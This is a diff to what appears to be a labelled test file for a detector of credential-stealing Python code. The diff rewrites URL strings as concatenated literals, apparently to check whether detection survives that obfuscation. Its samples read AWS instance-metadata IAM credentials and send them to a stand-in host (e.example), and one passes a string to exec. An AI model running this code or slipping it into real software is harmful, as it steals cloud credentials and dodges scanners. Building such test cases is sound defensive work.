@@ -294,9 +294,9 @@ for b in [0x2a, 0x28, 0x33, 0x34, 0x2e]:
 (lambda s: exec(s))(said)
 ## mod token that goes to another host = python-steals
 import requests
-host = "http://169.254.169.254/latest/meta-data/iam/security-credentials/demo"
+host = "http://" "169.254.169.254/latest/meta-data/iam/security-credentials/demo"
 key = requests.get(host).text
-requests.get("http://169.254.169.254:80@e.example/", headers={"a": key}, params={"k": key})
+requests.get("http://" "169.254.169.254:80@e.example/", headers={"a": key}, params={"k": key})
 ## mod token of a cluster in a body = python-steals
 import urllib.request
 def send():
@@ -370,10 +370,10 @@ host = "%s.example.org" % "www"
 print(socket.gethostbyname(host))
 ## a token that goes back to the host
 import requests
-ROLES = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
+ROLES = "http://" "169.254.169.254/latest/meta-data/iam/security-credentials/"
 def token():
     role = requests.get(ROLES).text
-    return requests.get(f"http://169.254.169.254/latest/meta-data/iam/{role}", headers={"a": role}).json()
+    return requests.get("http://" f"169.254.169.254/latest/meta-data/iam/{role}", headers={"a": role}).json()
 ## code that a program gives its own helper
 import base64, marshal, os, types
 with os.fdopen(3, "rb") as parent:
